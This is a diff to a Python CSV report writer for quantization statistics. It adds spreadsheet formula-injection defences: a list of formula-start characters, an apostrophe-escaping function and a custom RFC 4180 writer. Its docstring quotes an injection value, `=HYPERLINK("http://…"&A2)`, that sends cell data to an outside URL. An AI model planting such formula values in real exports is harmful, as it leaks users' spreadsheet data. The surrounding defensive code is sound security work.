@@ -3,11 +3,15 @@
 One row per layer in topological order. The first ten columns have the names and meanings of
 ``QuantizationDebugger.layer_statistics_dump`` so notebooks written for that tool keep working;
 how the numbers differ from that tool's is in docs/metrics.md ("CSV report").
+
+Names come from strangers' models: a layer named ``=HYPERLINK("http://…"&A2)`` would be a
+formula when the file is opened in a spreadsheet. A text cell starting with ``=``, ``+``, ``-``,
+``@``, a tab or a carriage return (or with ``'``, so the rule can be undone) gets a leading
+``'`` (OWASP's advice); numbers, ``-3.5`` or ``-inf`` included, are written as they are.
 """
 
 from __future__ import annotations
 
-import csv
 import io
 import math
 from typing import Any
@@ -85,12 +89,53 @@ def error_moments(stats: dict[str, np.ndarray], n_samples: int) -> dict[str, np.
     }
 
 
+#: What a spreadsheet reads as the start of a formula (and ``'``, the mark of a quoted cell).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "'")
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def inert(text: str) -> str:
+    """A text cell no spreadsheet runs as a formula: ``'`` before one that starts like one.
+
+    Removing one leading ``'`` from a cell that has it gives the text back exactly."""
+    if text.startswith(_FORMULA_START) and not _is_number(text):
+        return "'" + text
+    return text
+
+
 def _cell(value: Any) -> Any:
-    """NaN becomes an empty cell (pandas reads it back as NaN); floats keep full precision."""
+    """NaN becomes an empty cell (pandas reads it back as NaN); floats keep full precision;
+    text is made inert for spreadsheets."""
     if isinstance(value, float | np.floating):
         v = float(value)
         return "" if math.isnan(v) else repr(v)
+    if isinstance(value, str):
+        return inert(value)
     return value
+
+
+class _Writer:
+    """RFC 4180 rows ending in ``\\n``: a cell with a comma, a quote, ``\\n`` or ``\\r`` is
+    quoted (``csv.writer`` leaves a lone ``\\r`` bare, which breaks the row for readers)."""
+
+    def __init__(self, out: io.StringIO) -> None:
+        self.out = out
+
+    def writerow(self, cells: list[Any]) -> None:
+        self.out.write(",".join(_quoted("" if c is None else str(c)) for c in cells) + "\n")
+
+
+def _quoted(text: str) -> str:
+    if any(c in text for c in ',"\n\r'):
+        return '"' + text.replace('"', '""') + '"'
+    return text
 
 
 def report_csv(trace: Trace) -> str:
@@ -107,8 +152,9 @@ def report_csv(trace: Trace) -> str:
         else []
     )
     buf = io.StringIO()
-    writer = csv.writer(buf, lineterminator="\n")
-    writer.writerow([*TFLITE_COLUMNS, *QDEBUG_COLUMNS, *extra, *(ACCURACY_COLUMNS if acc else ())])
+    writer = _Writer(buf)
+    header = [*TFLITE_COLUMNS, *QDEBUG_COLUMNS, *extra, *(ACCURACY_COLUMNS if acc else ())]
+    writer.writerow([inert(h) for h in header])  # user metrics name columns
     for i, r in trace.iter_layers():
         n = moments["num_elements"][i]
         row: list[Any] = [
